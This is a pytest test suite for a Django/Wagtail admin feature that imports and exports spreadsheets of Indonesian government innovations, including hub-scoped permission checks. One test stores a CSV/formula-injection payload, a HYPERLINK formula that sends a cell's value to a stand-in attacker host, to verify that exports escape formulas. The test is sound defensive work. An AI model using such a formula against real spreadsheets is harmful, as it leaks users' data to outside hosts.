"""The admin's "Impor spreadsheet" screen, as a coordinator uses it (issue 14).

Through the admin's own views, as a logged-in user: the template, names instead of codes,
the same validation as the command line shown as row/column/reason, a preview per hub, nothing
written until confirmed, and the hub scoping (a coordinator of hub A cannot import into hub
B, nor see hub B's import jobs or export its innovations).
"""

import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from innovations.importing.spreadsheet import headers
from innovations.models import ImportJob, InnovationPage
from tests import test_permissions as hub_world
from tests.test_permissions import (
    HUB_A,
    HUB_B,
    PASSWORD,
    assert_permission_denied,
    body,
    login,
)

pytestmark = pytest.mark.django_db

# Two hubs, their pages and people (see tests/test_permissions.py).
world_ids, world, people = hub_world.world_ids, hub_world.world, hub_world.people

SECTION_TEXT = {
    "Ringkasan": "Ringkasan singkat.",
    "Latar belakang": "Masalah yang dijawab.",
    "Kebaruan": "Yang baru.",
    "Implementasi": "Cara menjalankan.",
    "Dampak": "Hasilnya.",
    "Sumber daya": "Orang dan anggaran.",
    "Keberlanjutan": "Peraturan bupati.",
    "Replikasi": "Mulai kecil.",
}


def row(**cells):
    """One spreadsheet row by header, with names (not codes) as a coordinator writes them."""
    values = {
        "ID": "",
        "Judul": "Posyandu Digital Sumedang",
        "Tagline": "Pencatatan tumbuh kembang balita lewat ponsel kader.",
        "Bahasa": "Bahasa Indonesia",
        "Instansi pelaksana": "Dinas Kesehatan Kabupaten Sumedang",
        "Tingkat": "Kabupaten",
        "Kementerian/lembaga": "",
        "Provinsi": "Jawa Barat",
        "Kabupaten/kota": "Kabupaten Sumedang",
        "Simpul": "",
        "Sektor utama": "Kesehatan",
        "Sektor lain": "",
        "Kanal layanan": "Elektronik",
        "TPB/SDGs": "3",
        "Tahun diluncurkan": 2022,
        "Tahapan": "Penerapan",
        "Status": "Berjalan",
        "Penghargaan": "",
        "Tag": "stunting; posyandu",
        "Mereplikasi (ID)": "",
        **SECTION_TEXT,
        "Metrik": "Balita tercatat | 40 | 95 | persen",
        "Anggaran tahunan (Rp)": 50000000,
        "Asal data": "",
    }
    values.update(cells)
    return [values.get(header, "") for header in headers()]


def xlsx(rows, header=None):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Inovasi"
    sheet.append(header or headers())
    for cells in rows:
        sheet.append(cells)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def csv_bytes(rows, delimiter=";"):
    import csv

    output = io.StringIO()
    writer = csv.writer(output, delimiter=delimiter)
    writer.writerow(headers())
    writer.writerows(rows)
    return output.getvalue().encode("utf-8-sig")


def upload(client, data, name="inovasi.xlsx", hub=None, allow_move=False):
    form = {"file": SimpleUploadedFile(name, data)}
    if hub is not None:
        form["hub"] = str(hub.pk)
    if allow_move:
        form["allow_move"] = "on"
    return client.post(reverse("innovations_import"), form)


def job_of(response):
    assert response.status_code == 302, body(response)[:2000]
    return ImportJob.objects.get(pk=int(response["Location"].rstrip("/").rsplit("/", 1)[1]))


def problems_in(html):
    """The problems table as (row, column, reason) tuples."""
    from tests.html_helpers import table_rows

    return [tuple(cells) for cells in table_rows(html, "import-problems")]


# --- the screen, the template ------------------------------------------------------------


def test_menu_and_screen_state_the_limits(client, world, people):
    login(client, people.coordinator_a)

    response = client.get(reverse("innovations_import"))

    html = body(response)
    assert response.status_code == 200
    assert 'id="id_file"' in html and 'id="id_hub"' in html and 'id="id_allow_move"' in html
    assert "Paling banyak 5.000 baris" in html and "10 MB" in html and "50 MB" in html
    assert "32.767 karakter" in html and "lembar tersembunyi" in html
    assert HUB_A in html and HUB_B not in html  # the hub choice: own hub only
    assert reverse("innovations_import") in body(client.get(reverse("wagtailadmin_home")))


def test_someone_without_a_hub_cannot_open_the_screen(client, world):
    user = get_user_model().objects.create_user("tamu", "tamu@contoh.go.id", PASSWORD)
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    login(client, user)

    assert_permission_denied(client.get(reverse("innovations_import")))
    assert_permission_denied(client.get(reverse("innovations_import_template")))
    assert reverse("innovations_import") not in body(client.get(reverse("wagtailadmin_home")))


def test_template_has_indonesian_headers_and_the_vocabularies(client, world, people):
    login(client, people.coordinator_a)

    response = client.get(reverse("innovations_import_template"))

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    assert workbook.sheetnames[:1] == ["Inovasi"]
    for sheet in ("Provinsi", "Kabupaten-Kota", "Kementerian-Lembaga", "Sektor", "Kanal", "TPB"):
        assert sheet in workbook.sheetnames
    first_row = next(workbook["Inovasi"].iter_rows(values_only=True))
    assert first_row[:3] == ("ID", "Judul", "Tagline") and "Kabupaten/kota" in first_row
    regencies = [r[1] for r in workbook["Kabupaten-Kota"].iter_rows(min_row=2, values_only=True)]
    assert "Kabupaten Sumedang" in regencies and len(regencies) == 514
    provinces = [r[1] for r in workbook["Provinsi"].iter_rows(min_row=2, values_only=True)]
    assert "Jawa Barat" in provinces and len(provinces) == 38


# --- check, preview, confirm ---------------------------------------------------------------


def test_names_are_accepted_previewed_then_written_on_confirmation(client, world, people):
    login(client, people.coordinator_a)
    before = InnovationPage.objects.count()
    data = xlsx([row(), row(Judul="Klinik Keliling Sumedang", **{"Kanal layanan": "Bergerak"})])

    job = job_of(upload(client, data, hub=world.hub_a))

    assert job.status == ImportJob.Status.READY
    assert InnovationPage.objects.count() == before  # nothing written before confirming
    html = body(client.get(reverse("innovations_import_job", args=[job.pk])))
    assert "Pratinjau" in html and 'id="import-confirm"' in html
    from tests.html_helpers import table_rows

    assert table_rows(html, "import-preview") == [[HUB_A, "2", "0", "0"]]

    response = client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})

    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE and job.rows is None
    page = InnovationPage.objects.get(slug="posyandu-digital-sumedang")
    assert page.get_parent().pk == world.hub_a.pk
    assert (page.province_id, page.regency.name, page.sector_id) == (
        "32",
        "Kabupaten Sumedang",
        "kesehatan",
    )
    assert [c.pk for c in page.channels.all()] == ["elektronik"]
    assert page.owner == people.coordinator_a
    assert InnovationPage.objects.count() == before + 2


def test_errors_are_shown_by_row_and_column_and_nothing_is_written(client, world, people):
    login(client, people.coordinator_a)
    before = InnovationPage.objects.count()
    data = xlsx(
        [
            row(),
            row(Judul="Satu", **{"Kabupaten/kota": "Bandung"}),  # kabupaten or kota?
            row(Judul="Dua", **{"Sektor utama": "Kesehatann", "Tahun diluncurkan": 3000}),
        ]
    )

    job = job_of(upload(client, data, hub=world.hub_a))

    assert job.status == ImportJob.Status.INVALID
    html = body(client.get(reverse("innovations_import_job", args=[job.pk])))
    found = problems_in(html)
    assert [(r, c) for r, c, _reason in found] == [
        ("3", "Kabupaten/kota"),
        ("4", "Sektor utama"),
        ("4", "Tahun diluncurkan"),
    ]
    assert "ambigu" in found[0][2] and "Kabupaten Bandung" in found[0][2]
    assert "tidak dikenal" in found[1][2]
    assert 'id="import-confirm"' not in html
    assert client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})
    assert InnovationPage.objects.count() == before


def test_csv_with_semicolons_goes_the_same_way(client, world, people):
    login(client, people.coordinator_a)

    job = job_of(upload(client, csv_bytes([row()]), name="inovasi.csv", hub=world.hub_a))

    assert job.status == ImportJob.Status.READY
    assert job.report["per_hub"] == {HUB_A: {"created": 1, "updated": 0, "unchanged": 0}}


# --- scoping ---------------------------------------------------------------------------------


def test_coordinator_of_hub_a_cannot_import_into_hub_b(client, world, people):
    login(client, people.coordinator_a)
    before = InnovationPage.objects.count()
    place_b = {"Provinsi": "Jawa Timur", "Kabupaten/kota": "Kota Surabaya", "Tingkat": "Kota"}

    job = job_of(upload(client, xlsx([row(Simpul=HUB_B, **place_b)])))

    assert job.status == ImportJob.Status.INVALID
    (problem,) = job.report["problems"]
    assert problem[:2] == [2, "Simpul"] and "tidak berhak" in problem[2]
    # The hub field offers hub A only: hub B's id is not a valid choice.
    response = upload(client, xlsx([row(**place_b)]), hub=world.hub_b)
    assert response.status_code == 200 and "id_hub-errors" in body(response)
    assert InnovationPage.objects.count() == before


def test_import_jobs_and_exports_are_private_to_their_hub(client, world, people):
    login(client, people.coordinator_a)
    job = job_of(upload(client, xlsx([row()]), hub=world.hub_a))
    login(client, people.coordinator_b)

    assert client.get(reverse("innovations_import_job", args=[job.pk])).status_code == 404
    assert (
        client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"}).status_code
        == 404
    )
    # Its progress too: another hub's coordinator learns neither the figures nor the phase.
    progress = client.get(reverse("innovations_import_progress", args=[job.pk]))
    assert progress.status_code == 404 and b"done" not in progress.content
    assert "inovasi.xlsx" not in body(client.get(reverse("innovations_import")))
    export_a = reverse("innovations_export") + f"?hub={world.hub_a.pk}"
    assert client.get(export_a).status_code == 404
    job.refresh_from_db()
    assert job.status == ImportJob.Status.READY
    login(client, people.coordinator_a)
    assert client.get(reverse("innovations_import_job", args=[job.pk])).status_code == 200
    assert client.get(export_a).status_code == 200


# --- export, and the round trip --------------------------------------------------------------


def export_url(hub, file_format):
    return reverse("innovations_export") + f"?hub={hub.pk}&format={file_format}"


def exported_rows(response, file_format):
    """(header, rows) of an export, as a spreadsheet program would read them."""
    import csv

    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        sheet = load_workbook(io.BytesIO(response.content))["Inovasi"]
        rows = [["" if v is None else v for v in r] for r in sheet.iter_rows(values_only=True)]
    return rows[0], rows[1:]


def as_file(header, rows, file_format):
    if file_format == "csv":
        import csv

        output = io.StringIO()
        csv.writer(output).writerows([header, *rows])
        return output.getvalue().encode("utf-8-sig")
    return xlsx(rows, header=list(header))


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_export_edit_import_changes_only_what_was_edited(client, world, people, file_format):
    login(client, people.coordinator_a)
    response = client.get(export_url(world.hub_a, file_format))
    assert response.status_code == 200
    header, rows = exported_rows(response, file_format)
    assert list(header) == headers()
    by_id = {r[0]: r for r in rows}
    assert set(by_id) == {world.a_live.slug, world.a_draft.slug}
    assert by_id[world.a_live.slug][header.index("Provinsi")] == "Jawa Barat"  # names, not codes
    by_id[world.a_live.slug][header.index("Tagline")] = "Tagline yang diperbarui lewat ekspor."
    untouched = InnovationPage.objects.get(pk=world.a_draft.pk)
    edited_sections = InnovationPage.objects.get(pk=world.a_live.pk).summary

    job = job_of(upload(client, as_file(header, rows, file_format), f"x.{file_format}"))

    assert job.status == ImportJob.Status.READY, job.report
    assert job.report["per_hub"] == {HUB_A: {"created": 0, "updated": 1, "unchanged": 1}}
    client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})
    page = InnovationPage.objects.get(pk=world.a_live.pk)
    # Hub A reviews its coordinators' work: the change waits for its moderators
    # (tests/test_import_review.py), and the pending version holds exactly the edit.
    pending = page.get_latest_revision_as_object()
    assert pending.tagline == "Tagline yang diperbarui lewat ekspor." and page.live
    assert pending.summary == edited_sections
    assert page.workflow_in_progress
    after = InnovationPage.objects.get(pk=world.a_draft.pk)
    assert after.latest_revision_id == untouched.latest_revision_id and not after.live


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_export_escapes_formulas_and_reads_them_back_as_text(client, world, people, file_format):
    formula = '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")'
    InnovationPage.objects.filter(pk=world.a_live.pk).update(title=formula, source_hash="")
    login(client, people.coordinator_a)

    response = client.get(export_url(world.hub_a, file_format))

    header, rows = exported_rows(response, file_format)
    titles = [r[header.index("Judul")] for r in rows]
    assert "'" + formula in titles and formula not in titles
    if file_format == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content))["Inovasi"]
        assert all(cell.data_type != "f" for row_ in sheet.iter_rows() for cell in row_)
    job = job_of(upload(client, as_file(header, rows, file_format), f"x.{file_format}"))
    assert job.report["per_hub"] == {HUB_A: {"created": 0, "updated": 0, "unchanged": 2}}


# --- large files in the background --------------------------------------------------------


def test_large_file_is_checked_and_written_in_the_background(
    client, world, people, monkeypatch, django_capture_on_commit_callbacks
):
    from innovations.importing import jobs

    monkeypatch.setattr(jobs, "IN_REQUEST_ROWS", 1)
    login(client, people.coordinator_a)
    data = xlsx([row(Judul=f"Inovasi Latar {n}") for n in range(3)])

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = job_of(upload(client, data, hub=world.hub_a))
    # Queued, not yet run: the page shows a progress bar and refreshes itself.
    assert job.status == ImportJob.Status.CHECKING and len(callbacks) == 1
    html = body(client.get(reverse("innovations_import_job", args=[job.pk])))
    assert 'id="import-progress"' in html and 'http-equiv="refresh"' in html
    callbacks[0]()  # the worker's turn (the immediate backend runs the task here)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.READY

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})

    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE
    assert InnovationPage.objects.filter(title__startswith="Inovasi Latar").count() == 3
    html = body(client.get(reverse("innovations_import_job", args=[job.pk])))
    assert 'http-equiv="refresh"' not in html and 'id="import-done"' in html


# --- moving between hubs (issue 17, finding 4) ----------------------------------------------


def moving_row(world):
    """Hub B's published page, claimed for hub A."""
    return row(ID=world.b_live.slug, Judul="KLAMPID Surabaya Terbit", Simpul=HUB_A)


def test_import_does_not_move_another_hubs_page(client, world, people):
    login(client, people.coordinator_a)

    job = job_of(upload(client, xlsx([moving_row(world)]), allow_move=True))

    assert job.status == ImportJob.Status.INVALID
    (problem,) = job.report["problems"]
    assert problem[1] == "Simpul" and "tidak berhak atas simpul itu" in problem[2]
    assert InnovationPage.objects.get(pk=world.b_live.pk).get_parent().pk == world.hub_b.pk


def test_moving_needs_rights_on_both_hubs_and_the_checkbox(client, world, people):
    both = people.coordinator_a
    both.groups.add(world.hub_b.coordinators)
    login(client, both)

    job = job_of(upload(client, xlsx([moving_row(world)])))
    assert job.status == ImportJob.Status.INVALID
    assert "kecuali diminta" in job.report["problems"][0][2]

    job = job_of(upload(client, xlsx([moving_row(world)]), allow_move=True))
    assert job.status == ImportJob.Status.READY
    client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})
    assert InnovationPage.objects.get(pk=world.b_live.pk).get_parent().pk == world.hub_a.pk


def test_a_search_result_exports_in_the_same_columns_without_drafts(client, world, people):
    url = reverse("search_export") + "?format=csv&province=32&province=35"
    assert client.get(url).status_code == 302  # the public gets the login page
    login(client, people.coordinator_a)

    response = client.get(url)

    assert response.status_code == 200
    header, rows = exported_rows(response, "csv")
    assert list(header) == headers()
    assert {r[0] for r in rows} == {world.a_live.slug, world.b_live.slug}
    assert "Draf Rahasia" not in response.content.decode("utf-8-sig")
    response = client.get(reverse("search_export") + "?province=35")
    header, rows = exported_rows(response, "xlsx")
    assert [r[0] for r in rows] == [world.b_live.slug]


def test_an_unconfirmed_import_does_not_keep_its_rows(client, world, people):
    import datetime

    from django.utils import timezone

    from innovations.importing import jobs

    login(client, people.coordinator_a)
    job = job_of(upload(client, xlsx([row()]), hub=world.hub_a))
    assert job.rows
    long_ago = timezone.now() - datetime.timedelta(days=jobs.CONFIRMATION_DAYS + 1)
    ImportJob.objects.filter(pk=job.pk).update(created_at=long_ago)

    job_of(upload(client, xlsx([row(Judul="Lain")]), hub=world.hub_a))  # any later upload

    job.refresh_from_db()
    assert job.status == ImportJob.Status.CANCELLED and job.rows is None
    client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})
    assert not InnovationPage.objects.filter(slug="posyandu-digital-sumedang").exists()
